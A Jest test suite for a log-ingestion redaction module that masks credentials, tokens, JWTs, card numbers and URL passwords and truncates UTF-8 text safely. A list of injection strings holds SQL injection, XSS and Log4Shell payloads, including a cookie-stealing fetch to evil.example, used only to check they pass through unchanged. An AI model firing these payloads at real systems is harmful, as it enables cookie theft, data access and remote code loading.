import { describe, expect, it } from '@jest/globals';

import {
  DEFAULT_REDACT_KEYS,
  MAX_REDACTION_DEPTH,
  REDACTED,
  TOO_DEEP,
  TRUNCATED_MARKER,
  normalizeRedactKeys,
  redactAttributes,
  redactJson,
  redactText,
  truncateUtf8,
  utf8Length,
} from '../../../src/ingestion/redaction';

const defaults = { keys: DEFAULT_REDACT_KEYS };
const JWT_SAMPLE =
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';

const VALID_CARDS: Array<[string, string]> = [
  ['Visa', '4111111111111111'],
  ['Visa with spaces', '4111 1111 1111 1111'],
  ['Visa with dashes', '4111-1111-1111-1111'],
  ['13-digit Visa', '4000000000006'],
  ['Mastercard 51–55', '5555555555554444'],
  ['Mastercard 2221–2720', '2223003122003222'],
  ['American Express', '378282246310005'],
  ['Discover', '6011111111111117'],
  ['JCB', '3530111333300000'],
  ['Diners Club', '30569309025904'],
];

const NOT_CARDS: Array<[string, string]> = [
  ['a Luhn-invalid Visa-like number', '4111111111111112'],
  ['an epoch-ms timestamp', '1700000000000'],
  ['a Luhn-valid epoch-ms timestamp', '1712345678907'],
  ['a Luhn-valid number without a card prefix', '8111111111111112'],
  ['a 10-digit order id', '4111111111'],
  ['a UUID', '550e8400-e29b-41d4-a716-446655440000'],
  ['an all-digit UUID', '41111111-1111-1111-1111-111111111111'],
  ['a decimal fraction', '0.4111111111111111'],
  ['an ISO timestamp', '2024-05-01T10:00:00.123Z'],
];

const INJECTION_STRINGS = [
  "'; DROP TABLE users; --",
  "1' OR '1'='1",
  'SELECT * FROM failures WHERE id = 1 UNION SELECT password FROM users',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
];

function nest(levels: number): Record<string, unknown> {
  let node: Record<string, unknown> = { leaf: 'bottom' };
  for (let i = 0; i < levels; i++) node = { child: node };
  return node;
}

function isWellFormed(text: string): boolean {
  return Buffer.from(text, 'utf8').toString('utf8') === text;
}

describe('normalizeRedactKeys', () => {
  it.each([
    ['API_KEY', 'apikey'],
    ['X-Api-Key', 'xapikey'],
    ['Session Id', 'sessionid'],
    ['set-cookie', 'setcookie'],
  ])('normalises %p to %p', (input, expected) => {
    expect(normalizeRedactKeys([input])).toEqual([expected]);
  });

  it('drops empty entries and duplicates', () => {
    expect(normalizeRedactKeys(['Token', 'token', '-_-', ' '])).toEqual(['token']);
  });

  it('leaves the default key list unchanged because it is already normalised', () => {
    expect(normalizeRedactKeys(DEFAULT_REDACT_KEYS)).toEqual([...DEFAULT_REDACT_KEYS]);
  });
});

describe('redactJson', () => {
  it.each([
    'Authorization', 'api_key', 'X-Api-Key', 'clientSecret', 'set-cookie', 'PASSWORD', 'db_passwd',
    'access_key_id', 'sessionId', 'privateKey', 'aws credentials', 'customer_ssn', 'cardNumber', 'cvv',
  ])('redacts the value under the key %p', (key) => {
    expect(redactJson({ [key]: 'value-1', name: 'kept' }, defaults)).toEqual({
      value: { [key]: REDACTED, name: 'kept' },
      redacted: 1,
    });
  });

  it('redacts sensitive keys nested in objects and arrays', () => {
    const input = {
      user: { name: 'ada', password: 'hunter2' },
      items: [{ token: 't-1', id: 1 }, { id: 2, headers: { Authorization: 'Bearer x' } }],
    };
    expect(redactJson(input, defaults)).toEqual({
      value: {
        user: { name: 'ada', password: REDACTED },
        items: [{ token: REDACTED, id: 1 }, { id: 2, headers: { Authorization: REDACTED } }],
      },
      redacted: 3,
    });
  });

  it('replaces the whole subtree under a sensitive key and counts it once', () => {
    const input = { credentials: { user: 'ada', pass: 'x', nested: [1, 2] }, ok: true };
    expect(redactJson(input, defaults)).toEqual({ value: { credentials: REDACTED, ok: true }, redacted: 1 });
  });

  it('keeps null under a sensitive key because there is nothing to hide', () => {
    expect(redactJson({ password: null }, defaults)).toEqual({ value: { password: null }, redacted: 0 });
  });

  it('accepts over-redaction of keys that merely contain a pattern', () => {
    expect(redactJson({ tokenizer_version: '3' }, defaults).value).toEqual({ tokenizer_version: REDACTED });
  });

  it.each(VALID_CARDS)('redacts a %s card number inside a string', (_network, card) => {
    expect(redactJson({ note: `paid with ${card} yesterday` }, defaults)).toEqual({
      value: { note: `paid with ${REDACTED} yesterday` },
      redacted: 1,
    });
  });

  it.each(NOT_CARDS)('keeps %s', (_description, text) => {
    expect(redactJson({ note: `ref ${text} done` }, defaults)).toEqual({ value: { note: `ref ${text} done` }, redacted: 0 });
  });

  it('redacts a card number stored as a JSON number but keeps an epoch-ms number', () => {
    expect(redactJson({ pan: 4111111111111111, at: 1712345678907 }, defaults)).toEqual({
      value: { pan: REDACTED, at: 1712345678907 },
      redacted: 1,
    });
  });

  it('redacts a bearer token inside a string and keeps the rest', () => {
    const command = 'curl -H "Authorization: Bearer abc123.def-456" https://api.example.com/jobs';
    expect(redactJson({ command }, defaults).value).toEqual({
      command: `curl -H "Authorization: Bearer ${REDACTED}" https://api.example.com/jobs`,
    });
  });

  it.each(['missing bearer token', 'invalid Bearer authentication header', 'Basic auth failed'])(
    'keeps the ordinary words in %p',
    (text) => {
      expect(redactJson([text], defaults)).toEqual({ value: [text], redacted: 0 });
    },
  );

  it('redacts basic credentials that decode to user:password', () => {
    expect(redactJson(['header Basic dXNlcjpwYXNz end'], defaults).value).toEqual([`header Basic ${REDACTED} end`]);
  });

  it('redacts a JWT anywhere in a string', () => {
    expect(redactJson({ message: `session ${JWT_SAMPLE} expired` }, defaults).value).toEqual({
      message: `session ${REDACTED} expired`,
    });
  });

  it.each([
    ['https://user:pass@example.com/x', `https://user:${REDACTED}@example.com/x`],
    ['postgres://app:s3cr3t@db1:5432/orders', `postgres://app:${REDACTED}@db1:5432/orders`],
    ['redis://:p4ss@cache:6379', `redis://:${REDACTED}@cache:6379`],
    ['https://api.example.com/v1?api_key=abc123&page=2', `https://api.example.com/v1?api_key=${REDACTED}&page=2`],
    ['https://example.com:8443/path?page=2', 'https://example.com:8443/path?page=2'],
    ['ssh://git@github.com/org/repo.git', 'ssh://git@github.com/org/repo.git'],
  ])('turns the URL %p into %p', (url, expected) => {
    expect(redactJson({ url }, defaults).value).toEqual({ url: expected });
  });

  it('counts every replaced value', () => {
    const input = {
      password: 'a',
      notes: ['card 4111111111111111 and token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig', 'Bearer abc123'],
      db: 'mysql://root:toor@db/app',
    };
    expect(redactJson(input, defaults).redacted).toBe(5);
  });

  it('does not mutate its input', () => {
    const input = { password: 'x', list: [{ url: 'https://u:p@h' }], deep: nest(40) };
    const snapshot = structuredClone(input);
    const { value } = redactJson(input, defaults);
    expect(input).toEqual(snapshot);
    expect(value).not.toBe(input);
  });

  it('returns the same result when applied to already redacted output', () => {
    const first = redactJson({ password: 'x', note: 'Bearer abc123 https://u:p@h' }, defaults);
    expect(redactJson(first.value, defaults)).toEqual({ value: first.value, redacted: 0 });
  });

  it(`replaces objects nested more than ${MAX_REDACTION_DEPTH} levels deep`, () => {
    let node = redactJson(nest(40), defaults).value as Record<string, unknown>;
    for (let depth = 0; depth < MAX_REDACTION_DEPTH; depth++) node = node.child as Record<string, unknown>;
    expect(node).toEqual({ child: TOO_DEEP });
  });

  it(`keeps objects nested exactly ${MAX_REDACTION_DEPTH} levels deep`, () => {
    expect(redactJson(nest(MAX_REDACTION_DEPTH), defaults).value).toEqual(nest(MAX_REDACTION_DEPTH));
  });

  it('uses a custom key list instead of the default one', () => {
    const input = { password: 'kept', Order_ID: 'o-1', note: 'Bearer abc123' };
    expect(redactJson(input, { keys: ['orderId'] })).toEqual({
      value: { password: 'kept', Order_ID: REDACTED, note: `Bearer ${REDACTED}` },
      redacted: 2,
    });
  });

  it('keeps a "__proto__" key as plain data without touching the prototype', () => {
    const result = redactJson(JSON.parse('{"__proto__": {"password": "x"}}'), defaults).value as object;
    expect(Object.getPrototypeOf(result)).toBe(Object.prototype);
    expect(Object.getOwnPropertyDescriptor(result, '__proto__')?.value).toEqual({ password: REDACTED });
  });

  it.each(INJECTION_STRINGS)('leaves the injection string %p verbatim', (text) => {
    expect(redactJson({ query: text }, defaults)).toEqual({ value: { query: text }, redacted: 0 });
  });

  it('keeps ordinary values such as UUIDs, numbers and booleans', () => {
    const input = { id: '550e8400-e29b-41d4-a716-446655440000', attempts: 3, ok: false, tags: ['retry', 'email'] };
    expect(redactJson(input, defaults)).toEqual({ value: input, redacted: 0 });
  });
});

describe('redactAttributes', () => {
  it('redacts sensitive names and secrets inside other values', () => {
    const input = { 'X-Api-Key': 'k-1', queue: 'emails', callback: 'https://svc:pw@hooks.example.com' };
    expect(redactAttributes(input, defaults)).toEqual({
      value: { 'X-Api-Key': REDACTED, queue: 'emails', callback: `https://svc:${REDACTED}@hooks.example.com` },
      redacted: 2,
    });
  });

  it('does not mutate its input', () => {
    const input = { password: 'x' };
    redactAttributes(input, defaults);
    expect(input).toEqual({ password: 'x' });
  });

  it('keeps every attribute when the key list is empty and no value looks like a secret', () => {
    const input = { password: 'x', region: 'eu-west-1' };
    expect(redactAttributes(input, { keys: [] })).toEqual({ value: input, redacted: 0 });
  });
});

describe('redactText', () => {
  it.each([
    ['connect failed: password=hunter2 host=db1', `connect failed: password=${REDACTED} host=db1`],
    ['upstream rejected {"apiKey":"abc","user":"bob"}', `upstream rejected {"apiKey":"${REDACTED}","user":"bob"}`],
    ["KeyError: {'client_secret': 'xyz', 'id': 7}", `KeyError: {'client_secret': '${REDACTED}', 'id': 7}`],
    ['request failed with Authorization: Bearer sometoken', `request failed with Authorization: Bearer ${REDACTED}`],
    ['Set-Cookie: session=abc; Path=/', `Set-Cookie: ${REDACTED}; Path=/`],
    ['GET https://svc/api?token=abc123&page=2 returned 401', `GET https://svc/api?token=${REDACTED}&page=2 returned 401`],
    ['mysql://root:toor@localhost:3306/app refused', `mysql://root:${REDACTED}@localhost:3306/app refused`],
    ['exec mysqldump --password="p w" --user=app', `exec mysqldump --password="${REDACTED}" --user=app`],
    [`jwt ${JWT_SAMPLE} rejected`, `jwt ${REDACTED} rejected`],
    [
      'Error: charge failed for 5555 5555 5555 4444\n    at pay (/app/pay.js:10:5)',
      `Error: charge failed for ${REDACTED}\n    at pay (/app/pay.js:10:5)`,
    ],
  ])('redacts the secret in %p', (text, expected) => {
    expect(redactText(text, defaults)).toEqual({ value: expected, redacted: 1 });
  });

  it.each([
    "TypeError: Cannot read properties of undefined (reading 'id')",
    'timeout after 30000ms at 2024-05-01T10:00:00Z (attempt 3 of 5, started 1712345678907)',
    'order 1234567890 for user 550e8400-e29b-41d4-a716-446655440000 failed: status=402',
    ...INJECTION_STRINGS,
  ])('leaves %p unchanged', (text) => {
    expect(redactText(text, defaults)).toEqual({ value: text, redacted: 0 });
  });

  it('counts every secret in a message', () => {
    const text = 'password=a token: b {"secret":"c"} Bearer d3f https://u:e@h';
    expect(redactText(text, defaults)).toEqual({
      value: `password=${REDACTED} token: ${REDACTED} {"secret":"${REDACTED}"} Bearer ${REDACTED} https://u:${REDACTED}@h`,
      redacted: 5,
    });
  });

  it('does not count already redacted or empty values', () => {
    expect(redactText(`password=${REDACTED} secret="" Bearer ${REDACTED}`, defaults).redacted).toBe(0);
  });

  it('redacts an unterminated quoted value up to the end of the line', () => {
    expect(redactText("password='hunter2 and more\nnext line", defaults).value).toBe(`password='${REDACTED}\nnext line`);
  });

  it.each(['eyJ-', '?', 'a-', 'a://', "password='a ", 'Bearer ', '4111 '])(
    'scans a long run of %p without catastrophic backtracking',
    (unit) => {
      const text = unit.repeat(Math.ceil(200_000 / unit.length));
      const started = Date.now();
      redactText(text, defaults);
      redactJson({ text }, defaults);
      expect(Date.now() - started).toBeLessThan(5_000);
    },
  );

  it('uses a custom key list instead of the default one', () => {
    expect(redactText('password=a tenant=b', { keys: ['TENANT'] }).value).toBe(`password=a tenant=${REDACTED}`);
  });
});

describe('utf8Length', () => {
  it.each([
    ['', 0],
    ['abc', 3],
    ['é', 2],
    ['€', 3],
    ['😀', 4],
    [TRUNCATED_MARKER, 14],
  ])('measures %p as %p bytes', (text, bytes) => {
    expect(utf8Length(text)).toBe(bytes);
  });
});

describe('truncateUtf8', () => {
  it('returns the text unchanged when it fits exactly', () => {
    expect(truncateUtf8('héllo', 6)).toEqual({ text: 'héllo', truncated: false });
  });

  it('cuts ASCII text and appends the marker within the byte budget', () => {
    expect(truncateUtf8('abcdefghijklmnopqrstuvwxyz', 20)).toEqual({ text: `abcdef${TRUNCATED_MARKER}`, truncated: true });
  });

  it('drops an emoji that would straddle the boundary instead of splitting its surrogate pair', () => {
    expect(truncateUtf8('ab😀😀😀😀😀😀', 14 + 5)).toEqual({ text: `ab${TRUNCATED_MARKER}`, truncated: true });
  });

  it('keeps an emoji that ends exactly at the boundary', () => {
    expect(truncateUtf8('ab😀😀😀😀😀😀', 14 + 6)).toEqual({ text: `ab😀${TRUNCATED_MARKER}`, truncated: true });
  });

  const mixed = 'naïve café 😀 日本語 👩‍💻 '.repeat(4);
  it.each(Array.from({ length: 50 }, (_, i) => 14 + i))(
    'stays within %p bytes and keeps mixed multi-byte text well formed',
    (maxBytes) => {
      const { text, truncated } = truncateUtf8(mixed, maxBytes);
      expect(truncated).toBe(true);
      expect(utf8Length(text)).toBeLessThanOrEqual(maxBytes);
      expect(utf8Length(text)).toBeGreaterThan(maxBytes - 4);
      expect(isWellFormed(text)).toBe(true);
      expect(mixed.startsWith(text.slice(0, -TRUNCATED_MARKER.length))).toBe(true);
    },
  );

  it('uses a custom marker', () => {
    expect(truncateUtf8('abcdef', 4, '...')).toEqual({ text: 'a...', truncated: true });
  });

  it('cuts without a marker when the marker alone does not fit', () => {
    expect(truncateUtf8('日本語テキスト', 7)).toEqual({ text: '日本', truncated: true });
  });

  it('rejects a negative byte budget', () => {
    expect(() => truncateUtf8('abc', -1)).toThrow(RangeError);
  });
});
